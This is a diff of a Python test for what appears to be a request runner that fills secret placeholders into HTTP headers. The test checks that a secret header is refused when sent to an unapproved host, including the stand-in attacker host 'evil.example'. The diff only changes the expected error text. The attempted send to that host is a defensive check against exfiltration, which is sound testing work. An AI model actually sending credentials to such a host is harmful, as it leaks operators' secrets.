@@ -217,7 +217,7 @@ async def test_a_secret_is_put_in_where_the_operator_lets_it_go(
         for tenant, where in (("default", url), ("acme", f"http://evil.example:{server.port}/")):
             refused = await runner.request(where, tenant=tenant, headers={"x": "{{secret.CRM}}"})
             assert refused.status == "failed"
-            assert "must not be sent" in ((await runner.last(refused.id)).error or "")
+            assert "may not be sent" in ((await runner.last(refused.id)).error or "")
         missing = await runner.request(url, headers={"x": "{{secret.OTHER}}"})
         assert missing.status == "scheduled"  # the operator may still set it
         literal = await runner.request(url, headers={"x": "{{secret.crm}} {{env.OTHER}} {{secret.}}"})
